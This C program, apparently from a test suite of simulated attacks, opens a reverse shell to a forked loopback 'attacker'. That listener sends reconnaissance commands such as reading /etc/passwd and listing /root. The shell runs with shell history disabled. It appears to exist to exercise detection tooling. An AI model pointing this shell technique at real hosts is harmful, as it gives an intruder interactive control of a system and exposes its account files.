// SPDX-License-Identifier: GPL-2.0
/*
 * Reverse shell: connect to the "attacker" (a loopback listener forked
 * first), put the socket on stdin/stdout/stderr and become /bin/sh -i, all
 * in the announced process. The listener types a few reconnaissance
 * commands and prints the answers when the shell hangs up, which is after
 * this program has exited.
 */
#include "common.h"

#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static const char commands[] =
	"id\nuname -a\ncat /etc/passwd\nls -la /root\nps\nexit\n";

/* The attacker's end, in a child: exits 0 if the output of id came back. */
static noreturn void listener(int lfd)
{
	struct timeval timeout = { .tv_sec = 20 };
	static char reply[64 * 1024];
	size_t got = 0;
	ssize_t n;
	int fd = accept(lfd, NULL, NULL);

	if (fd < 0)
		attack_die("accept");
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
	attack_write_all(fd, commands, sizeof(commands) - 1);
	while (got < sizeof(reply) - 1 &&
	       (n = read(fd, reply + got, sizeof(reply) - 1 - got)) > 0)
		got += (size_t)n;
	reply[got] = '\0';
	printf("revshell: listener received %zu bytes:\n%s\n", got, reply);
	if (!strstr(reply, "uid=")) {
		printf("revshell: no output of id came back\n");
		fflush(stdout);
		_exit(1);
	}
	printf("revshell: listener done\n");
	fflush(stdout);
	_exit(0);
}

int main(void)
{
	char *const argv[] = { "sh", "-i", NULL };
	char *const envp[] = { "PATH=/usr/bin:/bin", "HISTFILE=/dev/null", NULL };
	struct sockaddr_in addr;
	int lfd, fd;
	pid_t pid;

	attack_announce("revshell", getpid());
	lfd = attack_listen(&addr);
	pid = fork();
	if (pid < 0)
		attack_die("fork");
	if (pid == 0)
		listener(lfd);
	close(lfd);

	fd = attack_connect(&addr);
	if (dup2(fd, 0) < 0 || dup2(fd, 1) < 0 || dup2(fd, 2) < 0)
		attack_die("dup2");
	close(fd);
	execve("/bin/sh", argv, envp);
	attack_die("execve /bin/sh");
}
